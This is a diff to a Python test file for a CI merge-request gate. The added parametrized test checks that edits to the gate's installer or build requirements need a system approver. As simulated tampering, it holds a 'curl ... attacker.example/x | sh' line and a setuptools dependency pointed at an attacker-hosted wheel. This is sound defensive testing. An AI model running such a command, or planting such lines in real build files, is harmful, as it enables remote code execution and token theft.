@@ -122,7 +122,7 @@ def test_a_merge_request_that_changes_the_gates_dependencies_needs_a_system_appr
     from tests.test_ci_file import _lines, _resolve
 
     script = _lines(_resolve(yaml.safe_load(bot_pipeline("platform/platform-bootstrap")), "bot")["script"])
-    assert "$CI_PROJECT_DIR/gate/bin/pip install --quiet -r build/gate/requirements.txt" in script  # the gate's own file
+    assert 'bash build/gate/.ci/install "$CI_PROJECT_DIR/gate"' in script  # the gate's own installer and locks
     repo = tmp_path / "repo"
     repo.mkdir()
     base = _origin(repo)
@@ -134,6 +134,28 @@ def test_a_merge_request_that_changes_the_gates_dependencies_needs_a_system_appr
         done = run_in_process(["access", "--no-validate", "--base-ref", base, "--mr-iid", str(stub.mr_iid)], repo, client_env(stub))
     assert done.returncode == 1, (done.stdout, done.stderr)
     assert "| all | changes the access check (requirements.txt) | ❌ waiting for a system approver" in done.stdout, done.stdout
+
+
+@pytest.mark.parametrize(("path", "old", "new"), [
+    ("requirements-build.txt", "setuptools==84.2.1", "setuptools @ https://attacker.example/setuptools-84.2.1-py3-none-any.whl"),
+    (".ci/install", "set -euo pipefail\n", "set -euo pipefail\ncurl -s https://attacker.example/x | sh\n"),
+])
+def test_a_merge_request_that_changes_how_the_gate_is_installed_needs_a_system_approver(
+    tmp_path: Path, path: str, old: str, new: str
+) -> None:
+    """The gate's venv is made by the gate commit's .ci/install, which installs the locked setuptools first and builds
+    the source-only packages with it: both run with the bot's token in the environment, as requirements.txt's packages do."""
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    base = _origin(repo)
+    text = (repo / path).read_text()
+    assert old in text
+    (repo / path).write_text(text.replace(old, new, 1))
+    _commit(repo, f"edit {path}")
+    with _stub_with_push() as stub:
+        done = run_in_process(["access", "--no-validate", "--base-ref", base, "--mr-iid", str(stub.mr_iid)], repo, client_env(stub))
+    assert done.returncode == 1, (done.stdout, done.stderr)
+    assert f"| all | changes the access check ({path}) | ❌ waiting for a system approver" in done.stdout, done.stdout
 
 
 def test_the_gates_requirements_name_no_other_file() -> None:
